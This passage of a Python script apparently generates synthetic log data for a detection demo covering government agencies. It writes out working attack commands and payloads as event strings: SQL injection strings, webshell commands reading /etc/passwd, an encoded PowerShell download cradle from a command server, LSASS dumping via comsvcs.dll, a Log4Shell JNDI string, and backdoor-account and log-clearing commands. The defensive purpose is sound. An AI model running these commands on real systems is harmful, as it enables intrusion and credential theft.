            start + timedelta(seconds=i * 20),
            rng.randint(1000, 9000),
            rng.randint(40000, 65000),
        )
        user = users[i % len(users)]
        s.syslog_line(
            when,
            "vpn-gw01",
            "openvpn",
            f"pam_unix(openvpn:auth): authentication failure; logname= uid=0 "
            f"euid=0 tty= ruser= rhost=  user={user}",
            pid,
        )
        s.syslog_line(
            when,
            "vpn-gw01",
            "openvpn",
            f"{VPN_SPRAY}:{port} TLS Auth Error: Auth Username/Password verification failed for peer",
            pid,
        )


def attack_rdp_commune(s: Samples) -> None:
    """RDP guessing on a commune's one-stop-office PC, then a new admin account and a cleared log."""
    rng = s.rng
    host = WORKSTATIONS[8]
    start = s.at(2 + 10 / 60, 1)
    for i in range(64):
        user = rng.choice(["administrator", "admin", "motcua", "user", "canbo", "ketoan"])
        sub = "0xc000006a" if user in ("administrator", "motcua", "canbo") else "0xc0000064"
        s.logon(start + timedelta(seconds=i * 9), host, user, 10, RDP_BRUTE, failed=True, sub_status=sub)
    when = start + timedelta(minutes=10)
    s.logon(when, host, "administrator", 10, RDP_BRUTE)
    admin = "PC-MC01\\administrator"
    cmd = SYS32 + "cmd.exe"
    net = SYS32 + "net.exe"
    when += timedelta(minutes=2)
    s.sysmon_process(
        when,
        host,
        admin,
        net,
        "net user hotro.it Hotro@2026 /add",
        cmd,
        '"C:\\Windows\\system32\\cmd.exe"',
        "net.exe",
        "High",
    )
    s.win(
        when + timedelta(seconds=1),
        host,
        SECURITY,
        4720,
        {
            "TargetUserName": "hotro.it",
            "TargetDomainName": "PC-MC01",
            "TargetSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
            "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
            "SubjectUserName": "administrator",
            "SubjectDomainName": "PC-MC01",
            "SubjectLogonId": "0x3e7a21",
            "SamAccountName": "hotro.it",
            "DisplayName": "%%1793",
            "UserAccountControl": "%%2080 %%2082 %%2084",
        },
    )
    when += timedelta(seconds=25)
    s.sysmon_process(
        when,
        host,
        admin,
        net,
        "net localgroup administrators hotro.it /add",
        cmd,
        '"C:\\Windows\\system32\\cmd.exe"',
        "net.exe",
        "High",
    )
    s.win(
        when + timedelta(seconds=1),
        host,
        SECURITY,
        4732,
        {
            "MemberName": "-",
            "MemberSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
            "TargetUserName": "Administrators",
            "TargetDomainName": "Builtin",
            "TargetSid": "S-1-5-32-544",
            "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
            "SubjectUserName": "administrator",
            "SubjectDomainName": "PC-MC01",
            "SubjectLogonId": "0x3e7a21",
            "PrivilegeList": "-",
        },
    )
    when += timedelta(minutes=3)
    s.sysmon_process(
        when,
        host,
        admin,
        SYS32 + "wevtutil.exe",
        "wevtutil.exe cl Security",
        cmd,
        '"C:\\Windows\\system32\\cmd.exe"',
        "wevtutil.exe",
        "High",
    )
    s.win(
        when + timedelta(seconds=1),
        host,
        EVENTLOG,
        1102,
        {
            "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
            "SubjectUserName": "administrator",
            "SubjectDomainName": "PC-MC01",
            "SubjectLogonId": "0x3e7a21",
        },
        user_data="LogFileCleared",
    )


def attack_portal_sqli(s: Samples) -> None:
    """sqlmap against the dossier look-up of the public-service portal, 14:02-14:20 local."""
    rng = s.rng
    agent = "sqlmap/1.8.11#stable (https://sqlmap.org)"
    base = "/dichvucong/tracuu/hoso?mahoso=000.00.12.H01-261127-0042"
    payloads = [
        ("%27%20AND%209571%3D9571%20AND%20%27xYzq%27%3D%27xYzq", 200),
        ("%27%20AND%209571%3D9572%20AND%20%27xYzq%27%3D%27xYzq", 200),
        (
            "%27%20AND%20EXTRACTVALUE%281234%2CCONCAT%280x5c%2C0x7176627171%2C%28SELECT%20%28ELT%281234%3D1234%2C1"
            "%29%29%29%2C0x71766b7a71%29%29--%20kQpW",
            500,
        ),
        ("%27%20AND%20%28SELECT%206311%20FROM%20%28SELECT%28SLEEP%285%29%29%29abcd%29--%20Xlmo", 200),
        (
            "%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7176627171%2C0x4f6b%2C0x71766b7a71%29--%20-",
            200,
        ),
        (
            "%27%20UNION%20ALL%20SELECT%20NULL%2Ctable_name%2CNULL%20FROM%20information_schema.tables--%20-",
            200,
        ),
        ("%27", 500),
    ]
    start = s.at(14 + 2 / 60, 1)
    s.access_line(
        "dvc-web01",
        start,
        SQLMAP,
        "GET",
        base + "&vUsq%3D7921%20AND%201%3D1%20UNION%20ALL%20SELECT%201"
        "%2CNULL%2C%27%3Cscript%3Ealert%28%22XSS%22%29%3C%2Fscript%3E%27%2Ctable_name%20FROM%20"
        "information_schema.tables%20WHERE%202%3E1--%2F%2A%2A%2F%3B%20EXEC%20xp_cmdshell%28%27cat%20"
        "..%2F..%2F..%2Fetc%2Fpasswd%27%29%23",
        200,
        4880,
        "-",
        agent,
    )
    for i in range(84):
        payload, status = payloads[i % len(payloads)]
        s.access_line(
            "dvc-web01",
            start + timedelta(seconds=10 + i * 12 + rng.uniform(0, 4)),
            SQLMAP,
            "GET",
            base + payload,
            status,
            rng.randint(300, 6000) if status == 200 else 1432,
            "-",
            agent,
        )


def attack_portal_webshell(s: Samples) -> None:
    """A JSP webshell uploaded as a dossier attachment, then used; the web user then tries sudo."""
    agent = AGENTS[4]
    when = s.at(14 + 41 / 60, 1)
    s.access_line(
        "dvc-web01",
        when,
        WEBSHELL,
        "POST",
        "/dichvucong/dvctructuyen/nophoso/dinhkem",
        200,
        211,
        "https://dichvucong.ankhanh.gov.vn/dichvucong/dvctructuyen/nophoso?ma=1.001234",
        agent,
    )
    shell = "/dichvucong/upload/hoso/2026/11/tk_0912.jsp"
    for i, command in enumerate(
        [
            "",
            "?cmd=id",
            "?cmd=uname%20-a",
            "?cmd=cat%20/etc/passwd",
            "?cmd=sudo%20-l",
            "?cmd=sudo%20/bin/bash%20-c%20id",
            "?cmd=ls%20-la%20/opt/tomcat/conf",
        ]
    ):
        s.access_line(
            "dvc-web01",
            when + timedelta(seconds=40 + i * 30),
            WEBSHELL,
            "GET",
            shell + command,
            200,
            312 + 40 * i,
            "-",
            agent,
        )
    s.syslog_line(
        when + timedelta(seconds=160),
        "dvc-web01",
        "sudo",
        "  tomcat : user NOT in sudoers ; "
        "TTY=unknown ; PWD=/opt/tomcat/webapps ; USER=root ; COMMAND=/usr/bin/id",
    )
    s.syslog_line(
        when + timedelta(seconds=190),
        "dvc-web01",
        "sudo",
        "  tomcat : user NOT in sudoers ; "
        "TTY=unknown ; PWD=/opt/tomcat/webapps ; USER=root ; COMMAND=/bin/bash -c id",
    )


def attack_office_macro(s: Samples) -> None:
    """A phishing document opened at the Department of Home Affairs runs an encoded PowerShell cradle."""
    host = WORKSTATIONS[2]
    user = host.users[0]
    account = f"{host.domain}\\{user}"
    doc = f"C:\\Users\\{user}\\Downloads\\CV_de_nghi_bo_sung_ho_so_thi_dua.doc"
    when = s.at(9 + 12 / 60, 1)
    outlook = OFFICE + "OUTLOOK.EXE"
    s.sysmon_file(when, host, account, outlook, doc)
    word = OFFICE + "WINWORD.EXE"
    word_cmd = f'"{word}" /n "{doc}" /o ""'
    s.sysmon_process(
        when + timedelta(seconds=30), host, account, word, word_cmd, EXPLORER, EXPLORER, "WinWord.exe"
    )
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2}/tailieu/update.ps1')"
    encoded = base64.b64encode(script.encode("utf-16le")).decode("ascii")
    ps_when = when + timedelta(seconds=48)
    s.sysmon_process(
        ps_when,
        host,
        account,
        POWERSHELL_EXE,
        f"powershell.exe -NoP -NonI -W Hidden -enc {encoded}",
        word,
        word_cmd,
        "PowerShell.EXE",
    )
    s.ps_script(ps_when + timedelta(seconds=1), host, script)
    s.sysmon_network(ps_when + timedelta(seconds=2), host, account, POWERSHELL_EXE, C2, 80)
    s.sysmon_file(
        ps_when + timedelta(seconds=4),
        host,
        account,
        POWERSHELL_EXE,
        f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Office\\officeupd.exe",
    )


def attack_signsight(s: Samples) -> None:
    """A trojanised signing-client installer (SignSight-like) at the Department of Finance."""
    host = WORKSTATIONS[4]
    user = host.users[0]
    account = f"{host.domain}\\{user}"
    setup = f"C:\\Users\\{user}\\Downloads\\gca01-client-v2-x64-8.3.exe"
    when = s.at(10 + 35 / 60, 1)
    s.sysmon_file(when, host, account, CHROME, setup)
    s.sysmon_process(
        when + timedelta(seconds=15),
        host,
        account,
        setup,
        f'"{setup}"',
        EXPLORER,
        EXPLORER,
        "gca01-client.exe",
        "High",
    )
    backdoor = "C:\\Program Files\\Common Files\\eToken.exe"
    s.sysmon_file(
        when + timedelta(seconds=21),
        host,
        account,
        setup,
        "C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe",
    )
    s.sysmon_file(when + timedelta(seconds=22), host, account, setup, backdoor)
    s.sysmon_process(
        when + timedelta(seconds=25),
        host,
        account,
        "C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe",
        '"C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe"',
        setup,
        f'"{setup}"',
    )
    s.sysmon_process(
        when + timedelta(seconds=26),
        host,
        account,
        backdoor,
        f'"{backdoor}"',
        setup,
        f'"{setup}"',
        "eToken.exe",
        "High",
    )
    s.sysmon_process(
        when + timedelta(seconds=27),
        host,
        account,
        SYS32 + "cmd.exe",
        'cmd.exe /c schtasks /create /tn "SafeNet eToken Update" /tr "\\"' + backdoor + '\\"" /sc onlogon '
        "/rl highest /f",
        setup,
        f'"{setup}"',
        "Cmd.Exe",
        "High",
    )
    s.sysmon_network(when + timedelta(seconds=40), host, account, backdoor, C2, 443)


def attack_lsass_dump(s: Samples) -> None:
    """LSASS dumped with comsvcs.dll on the document-management server, 23:31 local."""
    host = QLVB
    admin = "ANKHANH\\qt.qlvb"
    when = s.at(23 + 31 / 60, 1)
    rundll = SYS32 + "rundll32.exe"
    s.sysmon_process(
        when,
        host,
        admin,
        rundll,
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 732 "
        "C:\\Windows\\Temp\\WER3a1f.tmp.dmp full",
        SYS32 + "cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe"',
        "RUNDLL32.EXE",
        "High",
    )
    s.win(
        when + timedelta(seconds=1),
        host,
        SYSMON,
        10,
        {
            "RuleName": "-",
            "SourceProcessGUID": _guid(s.rng),
            "SourceImage": rundll,
            "TargetImage": "C:\\Windows\\system32\\lsass.exe",
            "GrantedAccess": "0x1fffff",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.DLL+6a5b|"
            "C:\\Windows\\System32\\comsvcs.dll+4a8d",
            "SourceUser": admin,
            "TargetUser": "NT AUTHORITY\\SYSTEM",
        },
    )
    s.sysmon_file(when + timedelta(seconds=3), host, admin, rundll, "C:\\Windows\\Temp\\WER3a1f.tmp.dmp")


def attack_egov_probes(s: Samples) -> None:
    """A Log4Shell probe and a template scanner against the e-government portal."""
    when = s.at(3 + 22 / 60, 1)
    jndi = "${jndi:ldap://" + C2 + ":1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTk4LjUxLjEwMC4yL3g=}"
    s.access_line("cttdt-web01", when, C2, "GET", "/", 200, 31877, "-", jndi)
    s.access_line(
        "cttdt-web01",
        when + timedelta(seconds=1),
        C2,
        "GET",
        "/tintuc/chitiet?id=%24%7Bjndi%3Aldap%3A%2F%2F" + C2 + "%3A1389%2Fa%7D",
        200,
        14501,
        jndi,
        AGENTS[0],
    )
    agent = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
    probes = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/",
        "/server-status",
        "/actuator/env",
        "/backup.zip",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "/cgi-bin/luci",
        "/solr/admin/info/system",
    ]
    for i, uri in enumerate(probes * 3):
        s.access_line(
            "cttdt-web01",
            when + timedelta(minutes=20, seconds=i * 2),
            SCANNER,
            "GET",
            uri,
            404,
            162,
            "-",
            agent,
        )


def attack_cross_agency_sweep(s: Samples) -> None:
    """One address guessing SSH and RDP passwords at five agencies in twenty minutes, 03:40 local: a
    handful of tries per host, too few for any one agency to notice (layer 2's cross-agency correlation)."""
    rng = s.rng
    start = s.at(3 + 40 / 60, 1)
    targets: list[str | Host] = ["dvc-web01", "lgsp-gw01", WORKSTATIONS[1], WORKSTATIONS[3], WORKSTATIONS[7]]
    for n, target in enumerate(targets):
        for i in range(6):
            when = start + timedelta(minutes=4 * n, seconds=i * 11 + rng.uniform(0, 3))
            user = rng.choice(["administrator", "admin", "root", "quantri", "ketoan"])
            if isinstance(target, Host):
                s.logon(when, target, user, 10, SWEEP, failed=True)
            else:
                port = rng.randint(30000, 65000)
                s.syslog_line(when, target, "sshd", f"Failed password for {user} from {SWEEP} port {port} ssh2",
                              rng.randint(20000, 30000))


ACTIVITY: list[Callable[[Samples], None]] = [
    legitimate_vgca_install,
    server_day,
    portal_day,
    egov_portal_day,
    linux_day,
    attack_ssh_bruteforce,
    attack_vpn_spray,
    attack_rdp_commune,
    attack_portal_sqli,
    attack_portal_webshell,
    attack_office_macro,
    attack_signsight,
    attack_lsass_dump,
    attack_egov_probes,
    attack_cross_agency_sweep,  # last: the activities before it draw the same random numbers as before
]


def build() -> Samples:
    """All events of the demo day, deterministic for the fixed seed."""
    samples = Samples()
    for host in WORKSTATIONS:
        workstation_day(samples, host)
    for activity in ACTIVITY:
        activity(samples)
    return samples


def main() -> None:
    SAMPLES.mkdir(exist_ok=True)
    counts = build().write(SAMPLES)
    for name, count in counts.items():
        print(f"{name}: {count} events, {(SAMPLES / name).stat().st_size} bytes")
    print(f"total: {sum(counts.values())} events")


if __name__ == "__main__":
    main()
